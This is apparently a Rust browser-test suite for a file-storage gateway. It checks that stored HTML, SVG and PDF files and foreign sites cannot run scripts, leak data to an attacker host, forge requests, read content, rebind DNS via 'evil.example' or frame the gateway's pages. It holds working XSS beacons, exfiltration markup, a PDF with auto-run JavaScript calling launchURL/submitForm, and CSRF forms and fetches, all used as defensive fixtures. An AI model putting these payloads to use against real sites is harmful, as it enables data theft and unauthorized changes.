//! Files and sites that mean harm: nothing of what they try works, and each attempt is shown to work
//! where nobody defends against it.

use crate::chromium::Chromium;
use crate::hostile::Hostile;
use crate::page::Page;
use crate::{directory, grid};
use serde_json::json;
use tahoe_test_support::Node;

/// Says that it ran, in the page and to its master, to whom it also tells its own address.
const SCRIPT: &str = "document.title = 'ran'; new Image().src = 'HOST/got?' + location;";

fn html(body: &str) -> String {
    format!("<!DOCTYPE html><title>x</title><body>{body}<p id=end>end</p>")
}

/// Where a file of the grid is shown under a name: with its capability, and in a directory.
fn places(node: &Node, directory: &str, name: &str, contents: &str) -> Vec<String> {
    let cap = node.put(contents.as_bytes()).replace(':', "%3A");
    let linked = node.request("PUT", &format!("{directory}{name}"), contents.as_bytes());
    assert_eq!(linked.status, 201);
    vec![
        format!("/file/{cap}/@@named=/{name}"),
        format!("/uri/{cap}?filename={name}"),
        format!("{directory}{name}"),
    ]
}

#[test]
fn scripts_of_stored_files_do_not_run() {
    let grid = grid();
    let directory = directory(&grid);
    let attack = html(&format!(
        "<script>{SCRIPT}</script><img src=x onerror=\"{SCRIPT}\">"
    ));
    let hostile = Hostile::serve(&[("/control", &attack)]);
    let page = Page::of(grid.gateway(0));
    page.open(&hostile.url("/control"));
    page.wait_for("document.title == 'ran'");
    tahoe_test_support::wait_until("the control got out", || !hostile.heard("/got").is_empty());
    let before = hostile.heard("/got").len();

    let script = SCRIPT.replace("HOST", &hostile.url(""));
    let svg = format!(
        "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{script}\"><title>x</title>\
         <script>{script}</script><text id='end' y='20'>end</text></svg>"
    );
    let attack = attack.replace("HOST", &hostile.url(""));
    let xhtml = format!(
        "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title></head><body>\
         <script>{script}</script><p id='end'>end</p></body></html>"
    );
    for (name, contents) in [("a.html", &attack), ("a.svg", &svg), ("a.xhtml", &xhtml)] {
        for place in places(grid.gateway(0), &directory, name, contents) {
            page.open(&place);
            page.wait_for("document.querySelector('#end') != null");
            assert_eq!(page.text("document.title"), "x", "{place}");
            assert_eq!(page.text("self.origin"), "null", "{place}");
        }
    }
    assert_eq!(hostile.heard("/got").len(), before);
}

#[test]
fn stored_pages_reach_nothing_outside() {
    let grid = grid();
    let directory = directory(&grid);
    let attack = html(
        "<link rel=stylesheet href=HOST/got/style><img src=HOST/got/image>\
         <iframe src=HOST/got/frame></iframe><video src=HOST/got/video></video>\
         <object data=HOST/got/object></object><style>body{background:url(HOST/got/css)}</style>\
         <form action=HOST/got/form><button id=send>x</button></form>\
         <a id=leave href=HOST/left>x</a>",
    );
    let hostile = Hostile::serve(&[("/control", &attack), ("/left", "<title>left</title>")]);
    let page = Page::of(grid.gateway(0));
    let kinds = ["style", "image", "frame", "video", "object", "css"];
    let arrived = |kind: &&str| !hostile.heard(&format!("/got/{kind}")).is_empty();
    page.open(&hostile.url("/control"));
    tahoe_test_support::wait_until("controls got out", || kinds.iter().all(arrived));
    page.click("#send");
    tahoe_test_support::wait_until("the form got out", || arrived(&"form"));
    page.open(&hostile.url("/control"));
    page.click("#leave");
    page.wait_for("document.title == 'left'");
    let control = hostile.heard("/left").pop().unwrap();
    assert!(control.contains("Referer: http://127.0.0.1"), "{control}");

    let heard = hostile.heard("/got").len();
    let attack = attack.replace("HOST", &hostile.url(""));
    for place in places(grid.gateway(0), &directory, "a.html", &attack) {
        page.open(&place);
        page.click("#send");
        assert!(
            page.now_holds("document.querySelector('#end') != null"),
            "{place}"
        );
        page.click("#leave");
        page.wait_for("document.title == 'left'");
        let left = hostile.heard("/left").pop().unwrap();
        assert!(!left.contains("Referer") && !left.contains("URI"), "{left}");
    }
    assert_eq!(hostile.heard("/got").len(), heard);
}

#[test]
fn files_are_what_their_names_say() {
    let grid = grid();
    let directory = directory(&grid);
    let attack = html(&format!("<script>{SCRIPT}</script>"));
    let hostile = Hostile::serve(&[("/control", &attack)]);
    let page = Page::of(grid.gateway(0));
    page.open(&hostile.url("/control"));
    page.wait_for("document.title == 'ran'");
    for name in [
        "a.txt", "unknown", "a.png", "a.css", "a.js", "a.json", "a.mp4",
    ] {
        for place in places(grid.gateway(0), &directory, name, &attack) {
            page.open(&place);
            assert_ne!(page.text("document.title"), "ran", "{place}");
            assert!(
                !page.now_holds("document.querySelector('#end') != null"),
                "{place}"
            );
        }
    }
}

/// A document that tries to tell its address as soon as it is opened, and is a link all over.
const DOCUMENT: &str = "%PDF-1.4\n\
    1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n\
    2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
    3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 600]/Annots[<</Type/Annot/Subtype/Link\
    /Border[0 0 9]/Rect[0 0 600 600]/A<</S/URI/URI(HOST/left)>>>>]>>endobj\n\
    4 0 obj<</S/JavaScript/JS(app.launchURL\\(\"HOST/got/launched?\" + this.URL\\); \
    this.submitForm\\(\"HOST/got/sent\"\\);)>>endobj\n\
    trailer<</Root 1 0 R>>\n";

#[test]
fn stored_documents_tell_nothing() {
    let grid = grid();
    let directory = directory(&grid);
    let hostile = Hostile::serve(&[("/control.pdf", DOCUMENT), ("/left", "<title>left</title>")]);
    let page = Page::of(grid.gateway(0));
    let mut places = places(
        grid.gateway(0),
        &directory,
        "a.pdf",
        &DOCUMENT.replace("HOST", &hostile.url("")),
    );
    places.insert(0, hostile.url("/control.pdf"));
    for place in places {
        page.open(&place);
        let before = hostile.heard("/left").len();
        // Nothing tells when the viewer is ready.
        tahoe_test_support::wait_until("the document's link can be clicked", || {
            page.click_at(&json!(700), &json!(300));
            hostile.heard("/left").len() > before
        });
        page.wait_for("document.title == 'left'");
        let left = hostile.heard("/left").pop().unwrap();
        assert!(!left.contains("Referer") && !left.contains("URI"), "{left}");
    }
    assert_eq!(hostile.heard("/got").len(), 0);
}

/// A page with a form for somebody else's site.
fn foreign_form(target: &str, encoding: &str) -> String {
    html(&format!(
        "<form method=post enctype={encoding} action=\"{target}\">\
         <input name=t value=mkdir><input name=name value=evil>\
         <button id=send>A prize!</button></form>"
    ))
}

#[test]
fn other_sites_change_nothing() {
    let grid = grid();
    let node = grid.gateway(0);
    let directory = directory(&grid);
    let target = format!("{}{directory}", node.url());
    let (multipart, plain) = ("multipart/form-data", "application/x-www-form-urlencoded");
    let fetches = html(&format!(
        "<script>
        const tries = [['POST', '?t=mkdir&name=evil'], ['PUT', 'evil'], ['DELETE', 'kept']];
        const modes = ['cors', 'no-cors'];
        const all = tries.flatMap(([method, path]) => modes.map(mode =>
            fetch('{target}' + path, {{method, mode, credentials: 'include'}}).then(
                async answer => answer.type == 'opaque' ? 'nothing' : answer.text(),
                () => 'nothing')));
        Promise.all(all).then(answers => document.title = 'done ' + [...new Set(answers)]);
        </script>"
    ));
    let (one, two) = (
        foreign_form(&target, multipart),
        foreign_form(&target, plain),
    );
    let hostile = Hostile::serve(&[("/1", &one), ("/2", &two), ("/3", &fetches)]);
    let kept = node.request("PUT", &format!("{directory}kept"), b"contents");
    assert_eq!(kept.status, 201);
    // A name of another site, and another port of the same one.
    let rules = "--host-resolver-rules=MAP evil.example 127.0.0.1";
    let page = Page::with(Chromium::start(&[rules]), node.url());
    let elsewhere = format!("http://evil.example:{}", hostile.port());
    for site in [elsewhere, hostile.url("")] {
        for path in ["/1", "/2"] {
            page.open(&format!("{site}{path}"));
            page.click("#send");
            page.wait_for_text("Another site's page asked your browser");
        }
        page.open(&format!("{site}/3"));
        page.wait_for("document.title.startsWith('done')");
        assert_eq!(page.text("document.title"), "done nothing", "{site}");
    }
    let names = || {
        let listing = node
            .request("GET", &format!("{directory}?t=json"), b"")
            .json();
        let children = listing[1]["children"].as_object().unwrap();
        children.keys().cloned().collect::<Vec<_>>()
    };
    assert_eq!(names(), ["kept"]);
    // The same form works from a page of the node.
    page.open(&directory);
    page.value(&format!(
        "document.body.innerHTML = {}, document.forms[0].submit()",
        json!(one)
    ));
    tahoe_test_support::wait_until("our own form works", || names() == ["evil", "kept"]);
}

#[test]
fn other_sites_read_nothing() {
    let grid = grid();
    let node = grid.gateway(0);
    let cap = node.put(b"the secret").replace(':', "%3A");
    let script = node.put(b"window.leaked = 'x'").replace(':', "%3A");
    let reads = html(
        "<script>
        const read = (target) => fetch(target).then(answer => answer.text(), () => 'nothing');
        const load = (target) => new Promise(done => {
            const script = document.createElement('script');
            script.onload = () => done(window.leaked ?? 'nothing');
            script.onerror = () => done('refused');
            script.src = target;
            document.head.append(script);
        });
        </script>",
    );
    let code = "window.leaked = 'leaked'";
    let hostile = Hostile::serve(&[("/", &reads), ("/own", code)]);
    let page = Page::of(node);
    page.open(&hostile.url("/"));
    assert_eq!(page.text(&format!("read('{}')", hostile.url("/own"))), code);
    assert_eq!(
        page.text(&format!("load('{}')", hostile.url("/own"))),
        "leaked"
    );
    page.value("delete window.leaked");
    for target in [
        "/?t=json",
        "/",
        &format!("/uri/{cap}"),
        "/statistics?t=json",
    ] {
        let url = format!("{}{target}", node.url());
        assert_eq!(page.text(&format!("read('{url}')")), "nothing", "{target}");
    }
    let url = format!("{}/file/{script}/@@named=/x.js", node.url());
    assert_eq!(page.text(&format!("load('{url}')")), "refused");
    // Not even a page of the node runs a script that the grid holds.
    page.open(&format!("/uri/{cap}?t=info"));
    let tried = format!(
        "new Promise(done => {{
            const script = document.createElement('script');
            script.onload = script.onerror = () => done(window.leaked ?? 'nothing');
            script.src = '{url}';
            document.head.append(script);
        }})"
    );
    assert_eq!(page.text(&tried), "nothing");
}

#[test]
fn a_foreign_name_for_this_address_gets_nothing() {
    let grid = grid();
    let node = grid.gateway(0);
    let hostile = Hostile::serve(&[("/", "<title>control</title>")]);
    let rules = "--host-resolver-rules=MAP evil.example 127.0.0.1";
    let page = Page::with(Chromium::start(&[rules]), node.url());
    page.open(&format!("http://evil.example:{}/", hostile.port()));
    assert_eq!(page.text("document.title"), "control");
    let port = node.web_port();
    page.open(&format!("http://localhost:{port}/?t=json"));
    assert!(page.shown().contains("\"servers\""));
    for path in ["/?t=json", "/", "/statistics"] {
        page.open(&format!("http://evil.example:{port}{path}"));
        let shown = page.shown();
        assert!(
            shown.contains("This node isn't known as"),
            "{path}: {shown}"
        );
        let same_origin = page.text(&format!("fetch('{path}').then(answer => answer.text())"));
        assert!(same_origin.contains("This node isn't known as"), "{path}");
    }
}

#[test]
fn our_pages_are_not_shown_within_others() {
    let grid = grid();
    let node = grid.gateway(0);
    let directory = directory(&grid);
    let cap = node.put(b"contents").replace(':', "%3A");
    let framed = [
        "/".to_owned(),
        directory,
        "/status".to_owned(),
        format!("/file/{cap}/@@named=/x.txt"),
        format!("/uri/{cap}?filename=x.pdf"),
    ];
    let frames = framed.each_ref().map(|path| {
        let url = format!("{}{path}", node.url());
        format!("<iframe src=\"{url}\"></iframe>")
    });
    let frames = html(&format!(
        "<iframe src=HOST/control></iframe>{}",
        frames.concat()
    ));
    let hostile = Hostile::serve(&[("/", &frames), ("/control", "<title>x</title>")]);
    let page = Page::of(node);
    page.open(&hostile.url("/"));
    let shown = page.frames();
    assert_eq!(shown[0], hostile.url("/control"));
    assert_eq!(shown.len(), framed.len() + 1);
    // Nor within a page that the grid holds.
    let stored = node.put(frames.as_bytes()).replace(':', "%3A");
    page.open(&format!("/file/{stored}/@@named=/a.html"));
    for (url, path) in shown[1..]
        .iter()
        .zip(&framed)
        .chain(page.frames()[1..].iter().zip(&framed))
    {
        assert_eq!(url, "chrome-error://chromewebdata/", "{path}");
    }
}
